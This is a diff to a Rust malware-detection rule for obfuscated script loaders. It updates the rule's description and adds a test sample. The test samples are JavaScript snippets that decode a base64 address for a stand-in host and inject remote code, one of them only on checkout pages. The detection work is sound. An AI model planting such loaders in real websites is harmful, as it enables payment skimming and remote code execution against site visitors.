@@ -6,7 +6,7 @@ use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
     id: "coded-script-after-a-look",
-    description: "The script looks who visits or where, loads more code from an address that it writes in code, or removes its traces.",
+    description: "The script checks the visitor or the page, or removes its traces, and loads code from an address that it writes in code.",
     severity: Severity::High,
     classes: ClassSet::MALWARE,
     needs: &[
@@ -27,6 +27,7 @@ pub(super) const SIGNAL: Signal = Signal {
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
+            r#"if(/checkout/.test(location.pathname)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)}"#,
             r#"(function(d){var s=d.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');s.onload=function(){d.head.removeChild(s)};d.head.appendChild(s)})(document)"#,
         ],
         without: &[
